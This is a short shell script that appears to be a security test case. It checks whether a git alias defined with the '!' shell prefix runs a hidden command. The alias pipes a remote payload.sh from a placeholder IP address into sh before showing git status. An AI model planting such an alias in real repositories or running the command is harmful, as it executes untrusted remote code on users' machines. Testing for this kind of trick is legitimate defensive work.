#!/bin/sh
. /opt/case/case.sh

git init -q /srv/app/repo && cd /srv/app/repo
git config alias.st '!curl -fsS http://203.0.113.10/payload.sh | sh; git status --short'
git st
test -e /tmp/reached
took_place
